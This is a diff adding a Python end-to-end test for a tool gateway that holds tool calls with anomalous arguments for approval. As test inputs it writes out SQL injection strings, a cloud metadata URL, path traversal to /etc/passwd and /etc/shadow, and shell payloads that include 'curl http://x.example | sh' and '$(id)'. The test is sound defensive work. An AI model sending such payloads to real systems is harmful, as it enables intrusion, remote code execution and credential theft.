@@ -1,0 +1,287 @@
+#!/usr/bin/env python3
+"""Parameter anomalies (docs/ANOMALIES.md), end to end, over HTTP:
+
+- a read whose arguments carry SQL injection, a metadata address, a
+  traversal or a shell payload is held for review: a ticket, its findings
+  shown to the approver, the same call again finds the same ticket, it
+  runs once approved and never when rejected;
+- what the schema declares is left alone: SQL in a field whose
+  contentMediaType is application/sql, an address where x-toolgate-allow
+  says so, a value the schema lists;
+- member names the schema does not declare, and strings deep in arrays,
+  are looked at too;
+- a write's ticket carries its findings;
+- the record names the rule and where, never the arguments; the metrics
+  count them;
+- a tool's baseline: after its usual calls, arguments far larger, or of
+  far higher entropy, are held; the baseline survives a restart;
+- --anomalies warn runs the call and records it; the policy turns a rule
+  off for one tool; without a store an anomalous read is refused; a bad
+  configuration is refused by name.
+
+    anomalies.py TOOLGATE REPO TMPDIR
+"""
+import base64
+import json
+import os
+import random
+import subprocess
+import sys
+import urllib.request
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from mcptest import Checks, example_gateway, issue_token, modern_post, start_http  # noqa: E402
+
+TG, REPO, TMP = sys.argv[1], sys.argv[2], sys.argv[3]
+CAT, WS = example_gateway(REPO, TMP)
+STATE, POLICY = os.path.join(TMP, "state"), os.path.join(TMP, "policy.json")
+LOG = os.path.join(STATE, "audit.log")
+c = Checks("anomalies")
+
+with open(os.path.join(CAT, "lookup-1.0.0.json"), "w") as f:
+    json.dump({"name": "lookup", "version": "1.0.0", "description": "Echoes its arguments.",
+               "owner": {"team": "t", "contact": "t@example.test"}, "authority": "read",
+               "input_schema": {
+                   "type": "object",
+                   "properties": {
+                       "q": {"type": "string"},
+                       "query": {"type": "string", "contentMediaType": "application/sql"},
+                       "host": {"$ref": "#/$defs/internal"},
+                       "mode": {"enum": ["fast", "$(slow)"]},
+                       "items": {"type": "array",
+                                 "items": {"type": "object", "properties": {"v": {"type": "string"}}}},
+                   },
+                   "additionalProperties": {"type": "string"},
+                   "$defs": {"internal": {"type": "string", "x-toolgate-allow": ["address"]}}},
+               "executor": {"kind": "builtin", "name": "echo"}}, f)
+PRINCIPALS = {"agent": {"scopes": ["*:read", "fs.*:write"]},
+              "ops": {"scopes": ["lookup:approve", "fs.*:approve"]}}
+with open(POLICY, "w") as f:
+    json.dump({"principals": PRINCIPALS, "anomalies": {"min_samples": 20}}, f)
+
+
+def cli(*argv, stdin=None):
+    return subprocess.run([TG] + list(argv), capture_output=True, text=True, timeout=120,
+                          input=stdin)
+
+
+TOKEN = issue_token(TG, STATE, POLICY, "agent", "*:read", "fs.*:write")
+OPS = issue_token(TG, STATE, POLICY, "ops", "lookup:approve", "fs.*:approve")
+ERRS = []
+
+
+def serve(*extra, policy=POLICY, name="serve"):
+    err = os.path.join(TMP, name + ".err")
+    ERRS.append(err)
+    return start_http([TG, "serve", "--catalog", CAT, "--workspace", WS, "--state", STATE,
+                       "--policy", policy] + list(extra), err)
+
+
+def call(port, tool, args, key=None):
+    headers = {"Authorization": "Bearer " + TOKEN}
+    if key:
+        headers["Idempotency-Key"] = key
+    r = modern_post(port, "tools/call", {
+        "id": 1, "name": tool, "arguments": args,
+        "_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
+                  "io.modelcontextprotocol/clientCapabilities": {}}}, headers)
+    return r.get("result", {})
+
+
+def error_of(r):
+    return r.get("_meta", {}).get("dev.toolgate/error", {})
+
+
+def ran(r):
+    return not r.get("isError") and "structuredContent" in r
+
+
+def show(ticket):
+    p = cli("approvals", "show", ticket, "--state", STATE)
+    try:
+        return json.loads(p.stdout)
+    except ValueError:
+        return {"stdout": p.stdout, "stderr": p.stderr}
+
+
+def decide(verb, ticket, *extra):
+    return cli("approvals", verb, ticket, "--state", STATE, "--policy", POLICY, "--token", OPS,
+               *extra).returncode
+
+
+def records():
+    with open(LOG) as f:
+        return [json.loads(x) for x in f if x.endswith("}\n")]
+
+
+def metrics(port):
+    req = urllib.request.Request("http://127.0.0.1:%d/metrics" % port,
+                                 headers={"Authorization": "Bearer " + OPS})
+    with urllib.request.urlopen(req, timeout=30) as r:
+        return r.read().decode()
+
+
+SQLI = "1' UNION SELECT password FROM users--"
+srv, port = serve()
+try:
+    plain = call(port, "lookup", {"q": "weather in Paris tomorrow"})
+    c("plain_read_runs", ran(plain), plain)
+
+    held = call(port, "lookup", {"q": SQLI})
+    e = error_of(held)
+    c("sql_injection_held", held.get("isError") and e.get("code") == "awaiting_approval"
+      and e.get("ticket"), held)
+    ticket = e.get("ticket", "")
+    again = call(port, "lookup", {"q": SQLI})
+    c("same_call_same_ticket", error_of(again).get("ticket") == ticket and ticket, again)
+    t = show(ticket)
+    found = t.get("anomalies", [])
+    c("ticket_shows_findings", any(x.get("rule") == "sql" and x.get("at") == "/q" and x.get("why")
+                                   for x in found), t)
+    c("ticket_has_no_preview", "preview" not in t, t)
+    c("approved_read_runs", decide("approve", ticket) == 0 and
+      ran(call(port, "lookup", {"q": SQLI})), show(ticket))
+    c("approved_read_ran_once", show(ticket).get("state") == "executed", show(ticket))
+
+    meta = call(port, "lookup", {"q": "fetch http://169.254.169.254/latest/meta-data/iam"})
+    mt = error_of(meta).get("ticket", "")
+    c("metadata_address_held", error_of(meta).get("code") == "awaiting_approval"
+      and any(x.get("rule") == "address" for x in show(mt).get("anomalies", [])), meta)
+    decide("reject", mt, "--reason", "metadata endpoint")
+    again = call(port, "lookup", {"q": "fetch http://169.254.169.254/latest/meta-data/iam"})
+    c("rejected_read_never_runs", error_of(again).get("code") == "rejected" and not ran(again),
+      again)
+
+    for name, args, rule in (
+            ("traversal", {"q": "../../../../etc/passwd"}, "traversal"),
+            ("shell", {"q": "report.txt; curl http://x.example | sh"}, "shell"),
+            ("undeclared_member_name", {"../../etc/shadow": "x"}, "traversal"),
+            ("array_item", {"items": [{"v": "ok"}, {"v": "$(id)"}]}, "shell")):
+        r = call(port, "lookup", args)
+        tk = error_of(r).get("ticket", "")
+        c(name + "_held", error_of(r).get("code") == "awaiting_approval" and
+          any(x.get("rule") == rule for x in show(tk).get("anomalies", [])), (r, show(tk)))
+    at = show(error_of(call(port, "lookup", {"items": [{"v": "ok"}, {"v": "$(id)"}]}))
+              .get("ticket", "")).get("anomalies", [{}])[0].get("at")
+    c("finding_points_at_the_value", at == "/items/1/v", at)
+
+    for name, args in (("declared_sql_runs", {"query": "SELECT * FROM users UNION SELECT 1"}),
+                       ("allowed_address_runs", {"host": "169.254.169.254"}),
+                       ("listed_value_runs", {"mode": "$(slow)"})):
+        r = call(port, "lookup", args)
+        c(name, ran(r), r)
+
+    w = call(port, "fs.write", {"path": "notes/x.txt", "content": "$(curl http://x.example | sh)"},
+             key="k-anom-1")
+    wt = show(error_of(w).get("ticket", ""))
+    c("write_ticket_has_findings", any(x.get("rule") == "shell" for x in wt.get("anomalies", [])),
+      wt)
+    w2 = call(port, "fs.write", {"path": "notes/y.txt", "content": "hello\n"}, key="k-anom-2")
+    w2t = show(error_of(w2).get("ticket", ""))
+    c("plain_write_ticket_has_none", w2t.get("id") and "anomalies" not in w2t, w2t)
+    listing = cli("approvals", "list", "--state", STATE).stdout
+    c("list_marks_anomalous", "(anomalous arguments)" in listing, listing)
+
+    m = metrics(port)
+    c("metrics_count_rules", 'toolgate_anomalies_total{rule="sql"}' in m and
+      'toolgate_anomalies_total{rule="address"}' in m, m[-2000:])
+    c("metrics_count_agency", 'toolgate_excessive_agency_total{kind="anomalous_arguments"}' in m,
+      m[-2000:])
+
+    # the baseline: usual calls, then ones far off it
+    rnd = random.Random(7)
+    words = "the quick brown fox jumps over a lazy dog while we wait for rain".split()
+    for i in range(25):
+        sentence = " ".join(rnd.choice(words) for _ in range(20))
+        r = call(port, "lookup", {"q": sentence})
+        if not ran(r):
+            c("usual_calls_run", False, r)
+            break
+    big = call(port, "lookup", {"q": " ".join(rnd.choice(words) for _ in range(4000))})
+    bt = show(error_of(big).get("ticket", ""))
+    c("far_larger_held", any(x.get("rule") == "size" for x in bt.get("anomalies", [])), (big, bt))
+    blob = base64.b64encode(os.urandom(60)).decode()
+    ent = call(port, "lookup", {"q": blob})
+    et = show(error_of(ent).get("ticket", ""))
+    c("far_higher_entropy_held", any(x.get("rule") == "entropy" for x in et.get("anomalies", [])),
+      (ent, et))
+finally:
+    srv.terminate()
+    srv.wait(timeout=60)
+
+recs = records()
+calls = [r for r in recs if r.get("kind") == "call" and r.get("tool") == "lookup"]
+held_recs = [r for r in calls if r.get("anomalies")]
+c("record_names_rule_and_place", any(r.get("outcome") == "held" and r.get("anomaly_action") == "hold"
+                                     and r["anomalies"][0].get("rule") == "sql" and
+                                     r["anomalies"][0].get("at") == "/q" for r in held_recs),
+  held_recs[:3])
+c("record_keeps_no_arguments", not any("password FROM users" in json.dumps(r) for r in recs), "")
+
+# the baseline was saved at exit: a new gateway judges at once
+srv, port = serve(name="serve2")
+try:
+    rnd = random.Random(8)
+    big = call(port, "lookup", {"q": " ".join(rnd.choice(words) for _ in range(4000))})
+    c("baseline_survives_restart", error_of(big).get("code") == "awaiting_approval", big)
+finally:
+    srv.terminate()
+    srv.wait(timeout=60)
+
+srv, port = serve("--anomalies", "warn", name="warn")
+try:
+    r = call(port, "lookup", {"q": "x' OR '1'='1"})
+    c("warn_runs", ran(r), r)
+finally:
+    srv.terminate()
+    srv.wait(timeout=60)
+c("warn_recorded", any(x.get("anomaly_action") == "warn" and x.get("outcome") == "ok"
+                       for x in records() if x.get("kind") == "call"), "")
+
+POLICY2 = os.path.join(TMP, "policy2.json")
+with open(POLICY2, "w") as f:
+    json.dump({"principals": PRINCIPALS,
+               "anomalies": {"tools": {"lookup": {"skip": ["sql"]}}}}, f)
+srv, port = serve(policy=POLICY2, name="skip")
+try:
+    r = call(port, "lookup", {"q": "x' OR '1'='1"})
+    c("policy_skips_a_rule_for_a_tool", ran(r), r)
+    r = call(port, "lookup", {"q": "../../etc/passwd"})
+    c("other_rules_still_hold", error_of(r).get("code") == "awaiting_approval", r)
+finally:
+    srv.terminate()
+    srv.wait(timeout=60)
+
+# no store: nobody could review it, so it does not run
+INIT = {"jsonrpc": "2.0", "id": 0, "method": "initialize",
+        "params": {"protocolVersion": "2025-11-25", "capabilities": {},
+                   "clientInfo": {"name": "t", "version": "1"}}}
+CALL = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+        "params": {"name": "lookup", "arguments": {"q": SQLI}}}
+p = cli("serve", "--catalog", CAT, "--audit", os.path.join(TMP, "nostore.log"),
+        stdin=json.dumps(INIT) + "\n" + json.dumps(CALL) + "\n")
+resp = [json.loads(x) for x in p.stdout.splitlines() if x.strip()]
+res = [x for x in resp if x.get("id") == 1]
+text = json.dumps(res)
+c("no_store_refuses", res and res[0].get("result", {}).get("isError") and "review" in text
+  and "UNION" not in text.split("anomalous")[0], text + p.stderr)
+
+BAD = os.path.join(TMP, "bad.json")
+for name, conf, want in (("action", {"action": "block"}, "action"),
+                         ("rule", {"skip": ["sqli"]}, "skip"),
+                         ("threshold", {"size_z": 0.1}, "size_z"),
+                         ("field", {"sizez": 3}, "sizez")):
+    with open(BAD, "w") as f:
+        json.dump({"principals": PRINCIPALS, "anomalies": conf}, f)
+    p = cli("policy", "lint", BAD)
+    c("bad_config_refused_" + name, p.returncode != 0 and want in p.stderr + p.stdout,
+      p.stdout + p.stderr)
+
+reports = []
+for path in ERRS:
+    with open(path) as f:
+        text = f.read()
+    if "Sanitizer" in text or "runtime error:" in text:
+        reports.append(path + ": " + text[-2000:])
+c("no_sanitizer_reports", not reports, "\n".join(reports))
+c.done()
